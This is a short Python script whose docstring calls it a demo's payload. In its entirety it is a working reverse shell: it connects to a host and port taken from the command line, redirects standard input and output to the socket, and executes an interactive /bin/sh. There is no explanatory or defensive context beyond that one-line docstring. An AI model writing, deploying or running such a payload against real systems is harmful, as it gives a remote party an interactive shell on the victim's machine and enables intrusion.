#!/usr/bin/python3
"""The demo's payload: connect back, put the socket on stdin and stdout, become a shell."""
import os
import socket
import sys

connection = socket.create_connection((sys.argv[1], int(sys.argv[2])))
os.dup2(connection.fileno(), 0)
os.dup2(connection.fileno(), 1)
os.execv("/bin/sh", ["sh", "-i"])
